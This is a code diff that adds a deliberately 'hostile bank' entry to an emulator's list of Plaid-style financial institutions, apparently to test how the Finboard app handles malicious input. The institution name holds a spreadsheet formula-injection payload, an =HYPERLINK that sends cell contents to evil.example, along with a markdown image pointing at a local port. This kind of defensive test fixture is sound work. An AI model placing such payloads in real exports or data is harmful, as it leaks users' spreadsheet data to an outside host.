@@ -44,6 +44,16 @@ INSTITUTIONS: tuple[Institution, ...] = (
     ),
     Institution("ins_43", "Tartan-Dominion Bank of Canada", ("CA",), False, (), "#d52b1e", "https://plaid.com"),
     Institution("ins_117650", "Royal Bank of Plaid", ("GB",), False, (), "#2a3b8f", "https://plaid.com"),
+    # The hostile bank (core/emulator/hostile.py): its names attack every place Finboard shows them.
+    Institution(
+        "ins_666666",
+        '=HYPERLINK("http://evil.example/?leak="&A1,"Hostile Bank") ![logo](http://127.0.0.1:9/logo.png)',
+        ("US",),
+        False,
+        ("011000138",),
+        "#000000",
+        "https://plaid.com",
+    ),
 )
 INSTITUTIONS_BY_ID = {i.institution_id: i for i in INSTITUTIONS}
 
